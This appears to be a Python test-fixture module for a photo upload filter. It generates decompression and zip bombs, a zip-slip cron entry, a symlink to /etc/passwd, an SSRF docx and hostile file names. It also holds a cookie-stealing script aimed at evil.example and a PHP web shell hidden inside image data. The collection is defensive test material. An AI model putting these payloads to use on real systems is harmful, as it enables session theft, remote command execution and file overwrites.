"""What strangers upload, made on the spot: bombs, films, notes of cameras, other kinds of file under a photo's name."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageCms
from pillow_heif import register_heif_opener

register_heif_opener()

NOISE = Image.effect_noise((160, 120), 90).convert("RGB")


def saved(image: Image.Image, format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format, **options)
    return out.getvalue()


PHOTO = saved(NOISE, "JPEG")


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, depth: int = 8, colour: int = 2, pixels: bytes = b"", more: bytes = b"") -> bytes:
    """A PNG put together by hand: `pixels` are its rows, each with a filter byte before it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segments(*segments: bytes) -> bytes:
    """The photo with segments behind its first two bytes, where cameras and programs put theirs."""
    return PHOTO[:2] + b"".join(segments) + PHOTO[2:]


def exif(*entries: tuple[int, int, int, int], after: int = 0, rest: bytes = b"") -> bytes:
    """A note of a camera with one directory: (tag, type, count, value) each, and where the next one is said to be."""
    directory = struct.pack(">H", len(entries)) + b"".join(struct.pack(">HHII", *one) for one in entries)
    return segment(0xE1, b"Exif\0\0MM\0*" + struct.pack(">I", 8) + directory + struct.pack(">I", after) + rest)


def turned(orientation: int) -> bytes:
    return exif((0x0112, 3, 1, orientation << 16))


HIDDEN = saved(Image.effect_noise((80, 60), 70), "JPEG")
XMP = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><dc:creator>ZhangLan, building 3</dc:creator></x:xmpmeta>"
IPTC = b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x1c\x1c\x02\x78\0\x17By-line Zhang Lan 3-1-201"
MAKER = b"MakerNote serial 4411-7788 lens 24-70 owner Zhang Lan"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PHP = b"<?php system($_GET['cmd']); __halt_compiler(); ?>"


def gps() -> tuple[bytes, bytes]:
    """A photo that knows where it was taken, and the note that says so."""
    note = Image.Exif()
    note.get_ifd(0x8825).update({1: "N", 2: (34.0, 47.0, 13.5), 3: "E", 4: (114.0, 21.0, 14.75), 29: "2026:11:23"})
    note[0x010F], note[0x0110] = "Phone of Zhang Lan", "Serial 4411-7788"
    return saved(NOISE, "JPEG", exif=note), note.tobytes()


def made(data: bytes | Callable[[], bytes]) -> bytes:
    return data() if callable(data) else data


def zipped(names: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in names.items():
            packed.writestr(name, data)
    return out.getvalue()


def tar_with_link() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as packed:
        link = tarfile.TarInfo("photo.jpg")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        packed.addfile(link)
    return out.getvalue()


SECRET_DOCUMENT = {"word/_rels/document.xml.rels": b'<Relationship Target="http://169.254.169.254/" Mode="External"/>'}
FRAME = b"\x21\xf9\x04\0\0\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 2, 2, 0) + b"\x02\x03\x44\x02\x05\0"
FILM = b"GIF89a" + struct.pack("<HHBBB", 2, 2, 0x80, 0, 0) + bytes(6) + FRAME * 10_000 + b";"
TWELVE_BIT = PHOTO.replace(b"\xff\xc0\x00\x11\x08", b"\xff\xc0\x00\x11\x0c")
PROGRESSIVE = saved(NOISE, "JPEG", progressive=True)

#: What is refused: the bytes, or for those that take long to make what makes them, and the code of the refusal.
REFUSED = {
    "png 9000 x 9000": (lambda: saved(Image.new("1", (9000, 9000)), "PNG"), "photo_too_many_pixels"),
    "png 13000 x 13000": (lambda: saved(Image.new("1", (13000, 13000)), "PNG"), "photo_too_many_pixels"),
    "png 65535 x 65535 without pixels": (png(65535, 65535), "photo_too_many_pixels"),
    "png 0 x 0": (png(0, 0), "photo_damaged"),
    "apng of 10000 frames": (
        png(2, 2, pixels=bytes(14), more=chunk(b"acTL", struct.pack(">II", 10_000, 0))), "photo_too_many_frames",
    ),
    "gif of 10000 frames": (FILM, "photo_kind"),
    "jpeg truncated": (PHOTO[: len(PHOTO) // 2], "photo_damaged"),
    "jpeg of 12 bits": (TWELVE_BIT, "photo_damaged"),
    "jpeg without tables": (PHOTO[:2] + PHOTO[PHOTO.index(b"\xff\xda") :], "photo_damaged"),
    "avif": (saved(NOISE, "AVIF"), "photo_kind"),
    "tiff": (saved(NOISE, "TIFF"), "photo_kind"),
    "psd": (b"8BPS\0\1" + bytes(40), "photo_kind"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "photo_kind"),
    "ico": (saved(NOISE, "ICO"), "photo_kind"),
    "pdf": (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "photo_kind"),
    "gif and html": (saved(NOISE, "GIF") + SCRIPT, "photo_kind"),
    "zip bomb": (lambda: zipped({f"{number}.jpg": bytes(10_000_000) for number in range(10)}), "photo_kind"),
    "zip slip": (zipped({"../../etc/cron.d/x": b"* * * * * root sh"}), "photo_kind"),
    "docx with an address inside": (zipped(SECRET_DOCUMENT), "photo_kind"),
    "tar with a link": (tar_with_link(), "photo_kind"),
    "text swelling inside a png": (
        lambda: png(2, 2, pixels=bytes(14), more=chunk(b"zTXt", b"bomb\0\0" + zlib.compress(bytes(80_000_000)))),
        "photo_damaged",
    ),
}  # fmt: skip

PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()

#: What is taken: the bytes, and what of them must not be found in what is kept.
TAKEN = {
    "png 65535 x 1": (png(65535, 1, pixels=bytes(1 + 65535 * 3)), b""),
    "png 1 x 65535": (png(1, 65535, pixels=bytes(65535 * 4)), b""),
    "png of 16 bits": (png(4, 4, depth=16, pixels=bytes(4 * 25)), b""),
    "jpeg with 65000 comments": (with_segments(*[segment(0xFE, b"comment of a stranger")] * 65_000), b""),
    "jpeg with 65000 notes of programs": (with_segments(*[segment(0xEB, b"note of a program")] * 65_000), b""),
    "jpeg with a script in its comment": (with_segments(segment(0xFE, SCRIPT)), SCRIPT),
    "jpeg of 2000 passes": (
        PROGRESSIVE[:-2] + PROGRESSIVE[PROGRESSIVE.rindex(b"\xff\xda") : -2] * 2000 + b"\xff\xd9", b"",
    ),
    "jpeg in ink colours": (saved(NOISE.convert("CMYK"), "JPEG"), b""),
    "orientation 0": (with_segments(turned(0)), b""),
    "orientation 9": (with_segments(turned(9)), b""),
    "orientation 65535": (with_segments(turned(65535)), b""),
    "note whose next page is itself": (with_segments(exif((0x0112, 3, 1, 6 << 16), after=8)), b""),
    "note that contains itself": (with_segments(exif((0x8769, 4, 1, 8), (0x8825, 4, 1, 8))), b""),
    "note that points beyond its end": (with_segments(exif((0x010F, 2, 2**32 - 1, 2**32 - 1))), b""),
    "where it was taken": gps(),
    "thumbnail of another picture": (
        with_segments(exif((0x0112, 3, 1, 1 << 16), after=26, rest=struct.pack(
            ">HHHIIHHIII", 2, 0x0201, 4, 1, 56, 0x0202, 4, 1, len(HIDDEN), 0) + HIDDEN)),
        HIDDEN[HIDDEN.index(b"\xff\xda") + 14 :],
    ),
    "xmp": (with_segments(segment(0xE1, XMP)), XMP),
    "iptc": (with_segments(segment(0xED, IPTC)), IPTC),
    "maker note": (with_segments(exif((0x927C, 7, len(MAKER), 26), rest=MAKER)), MAKER),
    "colour profile": (saved(NOISE, "JPEG", icc_profile=PROFILE), PROFILE),
    "jpeg and zip": (PHOTO + zipped({"a.txt": PHP}), zipped({"a.txt": PHP})),
    "jpeg and php": (PHOTO + PHP, PHP),
    "jpeg and 300 kB of another file": (PHOTO + b"the diary of a stranger " * 12_000, b"the diary of a stranger "),
    "heic": (saved(NOISE, "HEIF"), b""),
    "webp with a note": (saved(NOISE, "WEBP", xmp=XMP), XMP),
    "png with a text": (png(2, 2, pixels=bytes(14), more=chunk(b"tEXt", b"Comment\0" + SCRIPT)), SCRIPT),
}  # fmt: skip

#: What a file may be called on the way in.
NAMES = {
    "out of the folder": "../../x", "with a backslash": "..\\..\\x.jpg", "absolute": "/etc/passwd",
    "two endings": "a.jpg.php", "a device": "CON", "long": "长" * 300 + ".jpg", "zero byte": "a\0.php",
    "right to left": "a\u202egpj.exe", "new line": "a\r\nX-Evil: 1.jpg", "emoji": "😀📷.jpg", "dash": "-rf.jpg",
    "coded": "%00.php", "none": "", "quotes": '"; rm -rf "', "html": "<img src=x onerror=alert(1)>.jpg",
}  # fmt: skip


def runs_of(out: bytes, note: bytes, length: int = 16) -> list[bytes]:
    """What of a note is found in what came out: every run of so many bytes that are not all alike."""
    here = {out[start : start + length] for start in range(len(out) - length + 1)}
    runs = (note[start : start + length] for start in range(len(note) - length + 1))
    return [run for run in runs if run in here and len(set(run)) > 1]
